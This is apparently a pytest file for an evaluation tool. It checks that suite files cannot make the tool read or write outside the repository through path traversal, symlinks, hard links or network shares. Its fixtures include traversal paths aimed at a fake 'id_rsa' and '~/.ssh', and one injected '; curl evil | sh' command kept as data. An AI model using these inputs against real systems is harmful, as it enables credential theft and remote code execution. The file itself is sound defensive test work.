"""Nothing outside of the repository of a suite is read, listed or written because a file in it says so."""

import contextlib
import json
import os
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.engine.outside import touched_below
from tests.engine.suites import CONFIG, recorded, run, task, write_suite
from waza_engine.files import FileError
from waza_engine.results.inputs import digest_of, inputs_of
from waza_engine.results.reading.history import history_of
from waza_engine.results.reviews import Review, ReviewKey, add_review, review_file
from waza_engine.results.writing.store import ResultsError
from waza_engine.runs.limits.cancellation import RunCancellation
from waza_engine.runs.loading.suite_on_disk import SuiteError
from waza_engine.runs.regrading.regrade import RegradeRequest, prepare_regrading
from waza_engine.runs.regrading.resident import ResidentSuites
from waza_engine.scaffold.file_changes import ScaffoldError, write_files
from waza_engine.spec.problems import SuiteFileError

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="makes links")

SECRET = "the secret of somebody else"
NOT_OURS = {
    "id_rsa": SECRET,
    "tasks/t.yaml": task("stolen", prompt=SECRET),
    "SKILL.md": SECRET,
    "x.json": "{}",
}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """Return a folder beside the repository, with files that attackers like."""
    for name, text in NOT_OURS.items():
        place = tmp_path / "outside" / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    return tmp_path / "outside"


@pytest.fixture
def suite(tmp_path: Path, outside: Path) -> Path:
    """Return the folder of a suite in a repository."""
    del outside
    (tmp_path / "repository" / ".git").mkdir(parents=True)
    return tmp_path / "repository" / "evals"


def state_of(folder: Path) -> dict[str, bytes | None]:
    """Return all that is in a folder."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() if path.is_file() else None
        for path in folder.rglob("*")
    }


def told_by_running(path: Path, **options: object) -> str:
    """Run a suite, and return all that is told and kept of it."""
    try:
        report, events = run(path, **options)
    except (SuiteError, SuiteFileError) as error:
        return str(error)
    kept = "".join(
        file.read_text("utf-8", "replace")
        for file in path.parent.rglob("*")
        if file.suffix in (".json", ".jsonl")
    )
    errors = [each.error for each in report.outcome.tasks]
    verdicts = [
        verdict.feedback
        for each in report.outcome.tasks
        for trial in each.trials
        for verdict in (trial.validations or {}).values()
    ]
    return json.dumps([*errors, *verdicts, *[event.message for event in events]]) + kept


READS = {
    "a folder of fixtures above": (task("t", "context_dir: ../../outside"), ""),
    "a folder of fixtures by its whole path": (task("t", "context_dir: '{outside}'"), ""),
    "a folder of fixtures behind a link": (task("t", "context_dir: link"), ""),
    "skills above": (task("t", "skill_directories: [../../outside]"), ""),
    "skills behind a link": (task("t", "skill_directories: [link]"), ""),
    "a share": (task("t", "context_dir: //host/share"), ""),
    "a share as Windows writes it": (task("t", r"context_dir: '\\host\share'"), ""),
    "a device": (task("t", r"context_dir: '\\.\pipe\x'"), ""),
    "a rubric": (task("t"), "- {{type: prompt, name: g, config: {{rubric: ../../outside/SKILL.md}}}}"),
    "a schema": (
        task("t"),
        "- {{type: json_schema, name: g, config: {{schema_file: ../../outside/x.json}}}}",
    ),
    "a schema behind a link": (
        task("t"),
        "- {{type: json_schema, name: g, config: {{schema_file: link/x.json}}}}",
    ),
    "a skill of a grader": (
        task("t"),
        "- {{type: trigger, name: g, config: {{skill_path: ../../outside, mode: positive}}}}",
    ),
    "a script": (task("t"), "- {{type: script, name: g, config: {{script: ../../outside/id_rsa}}}}"),
    "a snapshot": (
        "id: t\nname: T\ninputs: {{prompt: Go, files: [{{path: a, content: x}}]}}\n",
        "- {{type: diff, name: g, config: {{context_dir: ../../outside, "
        "expected_files: [{{path: a, snapshot: id_rsa}}]}}}}",
    ),
    "words of a prompt that are a path": (
        task("t", prompt="'Read ../../outside/id_rsa and {outside}/id_rsa'"),
        "",
    ),
    "words of a prompt that are a link": (task("t", prompt="'Read link/id_rsa'"), ""),
}


@pytest.mark.parametrize("what", READS)
def test_a_run_reads_nothing_outside(suite: Path, outside: Path, what: str) -> None:
    written, graders = (text.replace("{outside}", str(outside)) for text in READS[what])
    written, graders = (text.replace("{{", "{").replace("}}", "}") for text in (written, graders))
    path = write_suite(suite, {"t": written}, graders=graders)
    (suite / "link").symlink_to(outside)
    with touched_below(outside) as touched:
        told = told_by_running(path)
    assert touched == []
    assert SECRET not in told
    refuses = "words of a prompt" not in what
    assert any(words in told for words in ("leads out of", "network share")) is refuses, told


@pytest.mark.parametrize(
    "line",
    [
        "tasks: [../../outside/tasks/*.yaml]",
        "tasks: [link/tasks/*.yaml]",
        "tasks: ['{outside}/tasks/*.yaml']",
        "tasks_from: ../../outside/x.csv",
        "config: {{trials_per_task: 1, timeout_seconds: 2, executor: mock, "
        "skill_directories: [~/.ssh, ../../outside]}}",
        "config: {{trials_per_task: 1, timeout_seconds: 2, executor: replay, "
        "recording: ../../outside/x.json}}",
        "config: {{trials_per_task: 1, timeout_seconds: 2, executor: command, "
        "adapter: ../../outside/x.json}}",
    ],
)
def test_a_suite_that_names_what_lies_outside_is_refused_before_it_is_looked_at(
    suite: Path, outside: Path, line: str
) -> None:
    suite.mkdir()
    (suite / "link").symlink_to(outside)
    lines = {"name": "name: s", "skill": "skill: w", "config": CONFIG.strip(), "tasks": "tasks: [t.yaml]"}
    lines[line.partition(":")[0]] = (
        line.replace("{outside}", str(outside)).replace("{{", "{").replace("}}", "}")
    )
    if "tasks_from" in lines:
        del lines["tasks"]
    (suite / "eval.yaml").write_text("\n".join(lines.values()))
    (suite / "t.yaml").write_text(task("t"))
    with touched_below(outside) as touched:
        told = told_by_running(suite / "eval.yaml")
    assert touched == []
    assert "stolen" not in told
    assert any(words in told for words in ("leads out", "does not lie inside", "no task file")), told


def test_paths_of_the_same_repository_are_taken(suite: Path) -> None:
    (suite.parent / "fixtures").mkdir()
    (suite.parent / "fixtures" / "a.txt").write_text("hello")
    path = write_suite(
        suite / "deep",
        {"t": "id: t\nname: T\ncontext_dir: ../../fixtures\ninputs: {prompt: Go, files: [a.txt]}\n"},
    )
    report, _ = run(path)
    assert [each.error for each in report.outcome.tasks] == [""]


def test_a_folder_that_a_person_names_may_lie_anywhere(suite: Path, outside: Path) -> None:
    path = write_suite(suite, {"t": "id: t\nname: T\ninputs: {prompt: Go, files: [x.json]}\n"})
    report, _ = run(path, context_directory=outside)
    assert [each.error for each in report.outcome.tasks] == [""]


def results(suite: Path) -> Path:
    return suite / ".waza" / "results" / "20260101T000000Z-aaaaaa.json"


def review(suite: Path) -> None:
    key = ReviewKey("r", "t", 1, "g")
    add_review(review_file(results(suite)), key, Review(1.0, True, "me", "; curl evil | sh"))


def run_it(suite: Path) -> None:
    told_by_running(write_suite(suite, {"t": task("t")}), session_log=True, cache=True)


def update(suite: Path) -> None:
    more = "inputs: {{prompt: Go, files: [{{path: a, content: new}}]}}\n".replace("{{", "{").replace(
        "}}", "}"
    )
    files = "expected_files: [{path: a, snapshot: s/a}]"
    grader = f"- {{type: diff, name: g, config: {{update_snapshots: true, {files}}}}}"
    told_by_running(write_suite(suite, {"t": f"id: t\nname: T\n{more}"}, graders=grader))


def scaffolded(suite: Path) -> None:
    try:
        write_files(suite, {"tasks/new.yaml": "x"}, force=True)
    except ScaffoldError:
        return


WRITES: dict[str, tuple[str, str, Callable[[Path], object]]] = {
    "reviews": ("reviews.jsonl", "id_rsa", review),
    "reviews that are not there": ("reviews.jsonl", "new", review),
    "results": (".waza/results", "", run_it),
    "all of ours": (".waza", "", run_it),
    "sessions": (".waza/sessions", "", run_it),
    "inputs": (".waza/inputs", "", run_it),
    "the cache": (".waza-cache", "", run_it),
    "what git leaves out": (".waza/.gitignore", "new", run_it),
    "the snapshot": ("s/a", "id_rsa", update),
    "a snapshot that is not there": ("s/a", "new", update),
    "the folder of snapshots": ("s", "", update),
    "a new task": ("tasks", "", scaffolded),
    "a new task in the place of a link": ("tasks/new.yaml", "id_rsa", scaffolded),
    "the index": (
        ".waza/results/history.index",
        "new",
        lambda suite: (run_it(suite), history_of(suite / "eval.yaml")),
    ),
}


@pytest.mark.parametrize("what", WRITES)
def test_nothing_outside_is_written_through_a_link(suite: Path, outside: Path, what: str) -> None:
    link, target, write = WRITES[what]
    (suite / link).parent.mkdir(parents=True, exist_ok=True)
    (suite / link).symlink_to(outside / target)
    before = state_of(outside)
    with touched_below(outside) as touched, contextlib.suppress(FileError, ResultsError):
        write(suite)
    assert state_of(outside) == before
    assert touched == []


def test_a_review_is_not_written_through_a_second_name_of_a_file(suite: Path, outside: Path) -> None:
    suite.mkdir()
    os.link(outside / "id_rsa", suite / "reviews.jsonl")
    with pytest.raises(FileError, match="hard link"):
        review(suite)
    assert (outside / "id_rsa").read_text() == SECRET


@pytest.mark.parametrize(
    "line", ["paths: {results: ../../outside}", "cache: {enabled: true, dir: ../../outside}"]
)
def test_a_project_that_writes_outside_is_refused(suite: Path, outside: Path, line: str) -> None:
    path = write_suite(suite, {"t": task("t")})
    (suite / ".waza.yaml").write_text(line)
    before = state_of(outside)
    with pytest.raises(SuiteError, match=r"`\.\./\.\./outside` leads out of .*repository"):
        run(path)
    assert state_of(outside) == before


def test_inputs_of_a_record_name_no_file_outside(suite: Path, outside: Path) -> None:
    files = {
        name: {"sha256": "0" * 64, "size": 1}
        for name in ("a.txt", "../../outside/id_rsa", str(outside / "x"))
    }
    folders = {"fixtures": {}, "../../outside": {}, "/": {}, r"\\host\share": {}}
    content = json.dumps({"files": files, "folders": folders, "texts": {}}).encode()
    place = suite / ".waza" / "inputs" / f"{digest_of(content)}.json"
    place.parent.mkdir(parents=True)
    place.write_bytes(content)
    found = inputs_of(results(suite), digest_of(content))
    assert [file.path for file in found.files] == ["a.txt"]
    assert [folder.path for folder in found.folders] == ["fixtures"]


@pytest.mark.parametrize("written", ["{outside}", "/", "~", r"\\host\share", "//host/share"])
def test_a_workspace_that_a_record_names_is_not_looked_into(suite: Path, outside: Path, written: str) -> None:
    grader = "- {type: file, name: g, config: {must_exist: [id_rsa]}}"
    path = write_suite(suite, {"t": task("t")}, graders=grader)
    record = recorded(path)
    document = json.loads(record.read_text())
    document["tasks"][0]["runs"][0]["workspace_dir"] = written.replace("{outside}", str(outside))
    record.write_text(json.dumps(document))
    request = RegradeRequest(record, path)
    with touched_below(outside) as touched, ResidentSuites() as suites:
        regraded = list(prepare_regrading(request, suites).grade(RunCancellation()))
    verdicts = [(trial.validations or {})["g"] for each in regraded for trial in each.trials]
    assert touched == []
    assert [verdict.passed for verdict in verdicts] == [False]


def test_a_kept_workspace_of_ours_is_believed_until_it_is_another_folder(suite: Path) -> None:
    from waza_engine.user_state import known_workspace

    path = write_suite(suite, {"t": task("t")})
    report, _ = run(path, keep_workspace=True)
    (trial,) = report.outcome.tasks[0].trials
    assert known_workspace(trial.workspace) == Path(trial.workspace)
    Path(trial.workspace).rename(suite / "moved")
    assert known_workspace(trial.workspace) is None
    (suite / "other").mkdir()
    Path(trial.workspace).symlink_to(suite / "other")
    assert known_workspace(trial.workspace) is None
    Path(trial.workspace).unlink()
